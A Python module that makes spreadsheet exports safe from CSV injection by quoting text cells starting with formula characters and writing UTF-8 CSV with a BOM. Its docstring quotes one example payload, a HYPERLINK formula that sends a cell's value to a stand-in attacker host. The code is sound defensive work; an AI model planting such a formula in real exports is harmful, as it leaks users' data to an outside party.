"""Exports a reader opens in a spreadsheet: cells that can never run as formulas, and CSV that
Excel reads as UTF-8.

Identifiers such as a cart's session id are free text from the shop's raw files; a cell like
``=HYPERLINK("https://evil.example/?"&A1)`` would be a live formula in Excel or LibreOffice
(CSV injection, OWASP). Text cells starting with ``= + - @`` or a tab/carriage return get a
leading apostrophe, which spreadsheets show as text; numbers stay numbers (a negative amount
is not text, so it is left alone).
"""
from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell that a spreadsheet would read as a formula quoted."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = [("'" + v) if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v
                           for v in out[column]]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The frame as CSV, formulas made inert, with a BOM (Excel then reads UTF-8 correctly)."""
    return inert(frame).to_csv(index=False).encode("utf-8-sig")
